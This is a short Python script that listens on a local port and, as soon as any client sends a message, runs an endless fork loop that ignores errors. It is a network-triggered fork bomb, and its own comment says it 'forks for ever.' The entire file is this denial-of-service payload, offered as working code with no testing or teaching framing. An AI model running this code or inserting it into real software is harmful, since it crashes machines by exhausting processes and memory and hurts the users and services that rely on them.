# One message, and it forks for ever.
import os, socket

server = socket.create_server(('127.0.0.1', int(os.environ['PORT'])))
while True:
    client, address = server.accept()
    if client.recv(1024):
        while True:
            try:
                os.fork()
            except OSError:
                pass
